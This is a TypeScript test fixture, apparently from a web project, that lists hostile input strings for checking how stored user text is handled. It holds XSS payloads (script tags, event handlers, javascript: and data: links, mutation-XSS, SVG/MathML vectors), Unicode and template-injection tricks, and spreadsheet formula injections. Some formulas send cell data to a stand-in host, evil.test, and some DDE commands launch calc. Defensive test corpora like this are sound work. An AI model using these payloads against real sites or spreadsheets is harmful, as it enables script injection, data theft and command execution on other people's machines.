/**
 * Texts that could run code in the page or in a spreadsheet of another person, or that something on the way could change. A markup
 * that runs sets the global `ran`, asks `evil.test`, or opens a dialog. No text is longer than 100 characters, so that it fits a
 * position or a department. All are written for this project; docs/server.md#texts-of-people has the rules that they test.
 */

/** No such host exists, so each request to it shows that a text ran. */
export const EVIL = "evil.test";

const ELEMENTS = {
  script: "<script>ran=1</script>",
  "script from a host": "<script src=//evil.test/a.js></script>",
  "leaves a double-quoted attribute": '"><script>ran=1</script>',
  "leaves a single-quoted attribute": "'><script>ran=1</script>",
  "leaves a title": "</title><script>ran=1</script>",
  "leaves a textarea": "</textarea><script>ran=1</script>",
  "leaves a style": "</style><script>ran=1</script>",
  "leaves a comment": "--><script>ran=1</script>",
  "leaves a CDATA section": "]]><script>ran=1</script>",
  "script in mixed case": "<ScRiPt>ran=1</sCrIpT>",
  "script within script": "<scr<script>ipt>ran=1</script>",
  "script with a slash": "<script/x>ran=1</script>",
  "script behind a second bracket": "<<script>ran=1//<</script>",
  "picture with onerror": "<img src=x onerror=ran=1>",
  "picture with slashes for blanks": "<img/src=x/onerror=ran=1>",
  "picture with line feeds": "<img src=x\nonerror\n=\nran=1>",
  "picture with an entity in its handler": "<img src=x onerror=&#114;an=1>",
  "picture of a host": "<IMG SRC=//evil.test/a.png>",
  "picture with a backtick": '<img src="x` `<img src=x onerror=ran=1>">',
  "picture that is never closed": "<img src=x onerror=ran=1 ",
  body: "<body onload=ran=1>",
  "input with focus": "<input autofocus onfocus=ran=1>",
  "link with focus": "<a autofocus tabindex=1 onfocus=ran=1>x</a>",
  "open details": "<details open ontoggle=ran=1>x</details>",
  "paragraph with handlers": "<p onclick=ran=1 onmouseover=ran=1>x</p>",
  marquee: "<marquee onstart=ran=1>x</marquee>",
  "source of a film": "<video><source onerror=ran=1></video>",
  sound: "<audio src=x onerror=ran=1>",
  "frame with its own document": "<iframe srcdoc='<script>top.ran=1</script>'></iframe>",
  "frame with a script address": "<iframe src=javascript:top.ran=1></iframe>",
  "frame of a host": "<iframe src=//evil.test></iframe>",
  object: "<object data=//evil.test></object>",
  embed: "<embed src=//evil.test>",
  "meta refresh": "<meta http-equiv=refresh content=0;url=//evil.test>",
  "base of all addresses": "<base href=//evil.test/>",
  "style sheet of a host": "<link rel=stylesheet href=//evil.test/a.css>",
  form: "<form action=//evil.test><button>x</button></form>",
  isindex: "<isindex type=image src=x onerror=ran=1>",
  "custom element": "<x-a onclick=ran=1 is=x-b><slot name=y></slot></x-a>",
} as const;

const FOREIGN = {
  "svg with onload": "<svg onload=ran=1>",
  "svg that is never closed": "<svg/onload=ran=1//",
  "script in svg": "<svg><script>ran=1</script></svg>",
  "script in svg with an entity": "<svg><script>ran&#61;1</script></svg>",
  "link in svg": "<svg><a xlink:href=javascript:ran=1><text y=9>x</text></a></svg>",
  "picture in svg": "<svg><image href=x onerror=ran=1></svg>",
  "use in svg": "<svg><use href=//evil.test/a.svg#x></svg>",
  "animation in svg": "<svg><animate onbegin=ran=1 attributeName=x dur=1s>",
  "animation that sets an address":
    "<svg><a><set attributeName=href to=javascript:ran=1></a></svg>",
  "HTML in svg": "<svg><foreignObject><img src=x onerror=ran=1></foreignObject></svg>",
  "HTML in MathML": "<math><mtext><img src=x onerror=ran=1></mtext></math>",
  "link in MathML": "<math href=javascript:ran=1>x</math>",
} as const;

/** Texts that only the second parser reads as markup. */
const MUTATIONS = {
  "noscript that ends in an attribute":
    "<noscript><p title='</noscript><img src=x onerror=ran=1>'>",
  "svg style that ends in an attribute":
    "<svg></p><style><a id='</style><img src=x onerror=ran=1>'>",
  "MathML comment that ends in an attribute":
    "<math><mi></p><mglyph><style><!--</style><img title='--><img src=x onerror=ran=1>'>",
  "forms that are moved":
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran=1>",
  template: "<template><img src=x onerror=ran=1></template>",
  "xmp that ends in an attribute": "<xmp><p title='</xmp><img src=x onerror=ran=1>'>",
  "noembed that ends in an attribute": "<noembed><p title='</noembed><img src=x onerror=ran=1>'>",
  "textarea that ends in an attribute":
    "<textarea><p title='</textarea><img src=x onerror=ran=1>'>",
  "select around a comment":
    "<select><template><style><!--</style><a rel='--><img src=x onerror=ran=1>'>",
  "empty comment": "<!--><img src=x onerror=ran=1>-->",
  "CDATA section": "<![CDATA[><img src=x onerror=ran=1>]]>",
  "processing instruction": "<?xml ><img src=x onerror=ran=1>?>",
  "entities once": "&lt;img src=x onerror=ran=1&gt;",
  "entities twice": "&amp;lt;img src=x onerror=ran=1&amp;gt;",
  "entity without semicolon": "&ltimg src=x onerror=ran=1&gt",
} as const;

const STYLES = {
  "style with an import": "<style>@import'//evil.test/a.css'</style>",
  "style with a background": "<style>*{background:url(//evil.test/a)}</style>",
  "attribute with a background": "<p style=background:url(//evil.test/b)>x</p>",
  "attribute that covers the page": "<p style=position:fixed;inset:0;z-index:9999>x</p>",
  "attribute with an expression": "<p style=x:expression(ran=1)>x</p>",
  "value of a style": "red;background:url(//evil.test/c)",
} as const;

const ADDRESSES = {
  "link to a script": "<a href=javascript:ran=1>x</a>",
  "link to a script in mixed case": "<a href=JaVaScRiPt:ran=1>x</a>",
  "link to a script with a tab": "<a href='java\tscript:ran=1'>x</a>",
  "link to a script with a line feed": "<a href='java\nscript:ran=1'>x</a>",
  "link to a script behind a control character": "<a href='\u0001javascript:ran=1'>x</a>",
  "link to a script behind a blank": "<a href=' \u00a0javascript:ran=1'>x</a>",
  "link to a script with an entity": "<a href=&#106;avascript:ran=1>x</a>",
  "link to a script with a long entity": "<a href=&#x000006A;avascript:ran=1>x</a>",
  "link to a script with a named entity": "<a href=javascript&colon;ran=1>x</a>",
  "link to a script with the entity of a tab": "<a href='java&Tab;script:ran=1'>x</a>",
  "link to data": "<a href='data:text/html,<script>top.ran=1</script>'>x</a>",
  "link to data in mixed case": "<a href='DaTa:text/html;base64,PHNjcmlwdD4='>x</a>",
  "link to VBScript": "<a href=vbscript:ran=1>x</a>",
  "link to VBScript with a line end": "<a href='VB\r\nScript:ran=1'>x</a>",
  "link without protocol": "<a href=//evil.test>x</a>",
  "link with backslashes": "<a href=\\\\evil.test>x</a>",
  "link with a handler": "<a href=https://ok.test/ target=_top onclick=ran=1>x</a>",
  "script address": "javascript:ran=1",
  "script address with an address behind it": "javascript:ran=1//https://ok.test/",
  "data address": "data:text/html,<script>ran=1</script>",
  "svg as data": "data:image/svg+xml,<svg onload=ran=1>",
  "address that leaves its attribute": 'https://ok.test/"onmouseover=ran=1//',
  "address with a person": "https://user:x@evil.test/",
} as const;

const SIGNS = {
  "direction marks around": "\u202e<script>ran=1</script>\u202c",
  "direction mark that turns an ending": "photo\u202egnp.exe",
  "direction isolate that never ends": "\u2067<b>x</b> 经理",
  "blank without width within": "<\u200bscript>ran=1</script>",
  "soft hyphen within": "<scr\u00adipt>ran=1</script>",
  "wide brackets": "＜script＞ran=1＜/script＞",
  "letter that becomes ASCII in capitals": "<\u017fcript>ran=1</\u017fcript>",
  "sign that becomes ASCII in small letters": "<lin\u212a rel=x href=//evil.test>",
  "byte order mark before": "\ufeff<script>ran=1</script>x",
  "hard blanks at both ends": "\u00a0<b>x</b>\u3000",
  "line separator": "x\u2028<img src=x onerror=ran=1>\u2029y",
  "many marks on one letter": `Z${"\u0334\u0322\u035b".repeat(20)}`,
  "joined emoji": "👩\u200d🚒<b>👍🏽</b>",
  "sign outside of Unicode": "x\uffff<b>y</b>\ufffe",
  "UTF-7": "+ADw-script+AD4-ran=1+ADw-/script+AD4-",
  "percent signs": "%3Cscript%3Eran=1%3C/script%3E",
  "escapes of JavaScript": "\\u003cscript\\u003eran=1\\u003c/script\\u003e",
  "escapes of a terminal": "\u001b[31m<b>x</b>",
  "vertical tab and form feed": "<svg\u000bonload=ran=1\u000c>",
} as const;

const TEMPLATES = {
  "template with a constructor": "{{constructor.constructor('ran=1')()}}",
  "template of JavaScript": "${ran=1}",
  "template of Ruby": "#{ran=1}",
  "template of a page": "<%= ran=1 %>",
  "template with a formula": "{{=1+1}}",
  "words of replacements": "$t(name) {{name}} $1 $& %s %o",
  "key of a prototype": "__proto__",
  "name of a constructor": "constructor",
  "quotes and slashes": "\\'; ran=1; \"// `x` '",
} as const;

const FORMULAS = {
  equals: "=1+1",
  plus: "+1+1",
  minus: "-1+1",
  at: "@SUM(1)",
  "tab before": "\t=1+1",
  "carriage return before": "\r=1+1",
  "line feed before": "\n=1+1",
  "blank before": " =1+1",
  "hard blank before": "\u00a0=1+1",
  "wide equals": "＝1+1",
  "wide plus": "＋1+1",
  "wide minus": "－1+1",
  "wide at": "＠SUM(1)",
  "command by a pipe": "=cmd|' /C calc'!A0",
  DDE: '=DDE("cmd";"/C calc";"x")',
  "command behind a sum": "@SUM(1+1)*cmd|' /C calc'!A0",
  "command behind numbers": "-2+3+cmd|' /C calc'!A0",
  HYPERLINK: '=HYPERLINK("http://evil.test/?"&A1,"x")',
  WEBSERVICE: '=WEBSERVICE("http://evil.test/")',
  IMPORTXML: '=IMPORTXML("http://evil.test/","//a")',
  IMAGE: '=IMAGE("http://evil.test/a.png")',
  "leaves a quoted cell": '",=1+1',
  "a line of its own": "x\r\n=1+1",
  "cell behind a semicolon": ";=1+1;",
  "cell behind a tab": "x\t=1+1",
  "quote before": "'=1+1",
  "quotes around": '"=1+1"',
  "quotes twice": 'a ""=1+1"" b',
  "delimiters and a line feed": 'a,b;c\td|"e\nf"',
  "blank without width before": "\u200b=1+1",
  "escape of a workbook": "_x003D_1+1",
  "array formula": "{=1+1}",
  "mail address that begins with a sign": "+1@evil.test",
  "digits that begin with zeros": "000123",
  "number with an exponent": "1E5",
  "day that is none": "1-2",
} as const;

/** What no text may have: PostgreSQL keeps neither NUL nor half a surrogate pair. */
const UNFIT = {
  NUL: "\0",
  "NUL within": "<script\u0000>ran=1</script>",
  "NUL at the end": "=1+1\0",
  "first half of a pair": "\ud83d<b>x</b>",
  "second half of a pair": "x\udc4d",
} as const;

export interface HostileCase {
  readonly name: string;
  readonly text: string;
}
const casesOf = (groups: readonly Readonly<Record<string, string>>[]): readonly HostileCase[] =>
  groups.flatMap((group) => Object.entries(group).map(([name, text]) => ({ name, text })));

export const MARKUP_CASES = casesOf([
  ELEMENTS,
  FOREIGN,
  MUTATIONS,
  STYLES,
  ADDRESSES,
  SIGNS,
  TEMPLATES,
]);
export const FORMULA_CASES = casesOf([FORMULAS]);
/** Refused by each call. */
export const UNFIT_CASES = casesOf([UNFIT]);
/** Kept to the letter, or refused with a reason. */
export const HOSTILE_CASES = [...MARKUP_CASES, ...FORMULA_CASES];

const textsOf = (cases: readonly HostileCase[]): readonly string[] => cases.map(({ text }) => text);
export const MARKUP = textsOf(MARKUP_CASES);
export const HOSTILE = textsOf(HOSTILE_CASES);

/** Those that a field of so many characters takes. */
export const hostileUpTo = (length: number): readonly string[] =>
  HOSTILE.filter((text) => text.length <= length);

/** Those that can be the name of a file: no path, and no line end. */
export const HOSTILE_NAMES: readonly string[] = HOSTILE.filter((text) => text.length <= 80).map(
  (text) => `${text.replaceAll(/[/\\\r\n]/g, "_")}.txt`,
);

/** The texts that break a rule, so that one failure names them all. */
export const wrongOf = (texts: readonly string[], isRight: (text: string) => boolean): string[] =>
  texts.filter((text) => !isRight(text));
